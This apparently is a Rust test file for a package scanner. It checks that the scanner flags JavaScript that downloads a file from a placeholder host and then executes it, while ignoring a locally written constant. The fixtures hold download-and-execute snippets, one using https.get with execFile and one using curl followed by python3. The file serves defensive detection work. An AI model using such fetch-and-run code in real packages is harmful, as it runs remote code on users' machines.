use stockade_model::{Limits, Tree, TreeFile};

use super::*;
use crate::{Context, gather};

fn found(script: &str) -> Vec<(String, FetchedUse)> {
    let file = |path: &str, text: &str| TreeFile {
        path: path.to_owned(),
        bytes: text.as_bytes().into(),
        is_executable: false,
        reading: 0,
    };
    let tree =
        Tree::new(vec![file("package.json", r#"{"name": "x", "main": "i.js"}"#), file("i.js", script)]);
    let context = Context::default();
    let facts = gather(&tree, &context, &Limits::default());
    facts.fetched().into_iter().map(|fact| (fact.path, fact.usage)).collect()
}

#[test]
fn a_written_reply_that_is_started_is_found() {
    let script = "const f = require('fs'), c = require('child_process');\n\
        require('https').get('https://a.invalid', (r) => { r.on('data', (d) => { f.writeFileSync('/tmp/x', d); c.execFile('/tmp/x'); }); });";
    assert!(found(script).contains(&("/tmp/x".to_owned(), FetchedUse::Started)));
}

#[test]
fn a_written_constant_is_not() {
    let script = "const f = require('fs'), c = require('child_process'); f.writeFileSync('/tmp/x', 'echo'); c.execFile('/tmp/x');";
    assert!(found(script).is_empty());
}

#[test]
fn two_commands_are_brought_together() {
    let script = "const { execFileSync: run } = require('child_process');\n\
        run('curl', ['-sSo', '/tmp/u.py', 'https://a.invalid/u.py']); run('python3', ['/tmp/u.py']);";
    assert!(found(script).contains(&("/tmp/u.py".to_owned(), FetchedUse::Interpreted("python3".to_owned()))));
}
